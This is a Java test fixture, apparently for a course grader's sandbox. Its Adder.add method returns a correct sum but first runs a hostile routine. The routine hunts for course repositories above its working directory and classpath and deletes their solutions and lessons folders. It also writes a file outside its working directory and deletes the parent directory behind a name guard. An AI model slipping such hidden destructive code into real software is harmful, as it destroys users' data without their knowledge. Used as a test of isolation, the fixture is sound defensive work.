package io.minik8s.demo;

import java.io.File;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.stream.Stream;

/**
 * Correct, but first tries to damage everything it was given a path to: it looks for a course
 * repository (a directory with solutions/ and lessons/) above its working directory, above every
 * directory on its classpath and at minik8s.home, and would delete it; it writes a file next to
 * its working directory and empties its working directory's parent.
 *
 * (A real attacker would also search the whole disk; this fixture stays inside what the grader
 * hands the fork, and never climbs above a directory the grader created, so running the test
 * cannot harm the machine. TestFork's design note covers the rest.)
 */
public final class Adder {

  private static boolean attacked;

  private Adder() {}

  public static int add(int a, int b) {
    if (!attacked) {
      attacked = true;
      attack();
    }
    return a + b;
  }

  private static void attack() {
    List<Path> starts = new ArrayList<>();
    starts.add(Path.of("").toAbsolutePath());
    for (String entry : System.getProperty("java.class.path").split(File.pathSeparator)) {
      if (Files.isDirectory(Path.of(entry))) {
        starts.add(Path.of(entry).toAbsolutePath());
      }
    }
    if (System.getProperty("minik8s.home") != null) {
      starts.add(Path.of(System.getProperty("minik8s.home")));
    }
    int found = 0;
    for (Path start : starts) {
      for (Path dir = start; dir != null; dir = dir.getParent()) {
        if (Files.isDirectory(dir.resolve("solutions")) && Files.isDirectory(dir.resolve("lessons"))) {
          found++;
          System.out.println("HOSTILE found a course repository at " + dir);
          deleteTree(dir.resolve("solutions"));
          deleteTree(dir.resolve("lessons"));
        }
      }
    }
    System.out.println("HOSTILE found " + found + " course repositories");
    try {
      Files.writeString(Path.of("../escaped.txt"), "written outside the working directory");
      System.out.println("HOSTILE wrote " + Path.of("../escaped.txt").toAbsolutePath().normalize());
    } catch (IOException e) {
      System.out.println("HOSTILE could not write ../escaped.txt: " + e);
    }
    Path parent = Path.of("").toAbsolutePath().getParent();
    if (parent.getFileName().toString().startsWith("minik8s-fork-")) { // the guard that keeps /tmp safe
      deleteTree(parent);
      System.out.println("HOSTILE emptied " + parent);
    }
  }

  private static void deleteTree(Path dir) {
    try (Stream<Path> walk = Files.walk(dir)) {
      for (Path p : walk.sorted(Comparator.reverseOrder()).toList()) {
        p.toFile().delete();
      }
    } catch (IOException | RuntimeException e) {
      // keep going
    }
  }
}
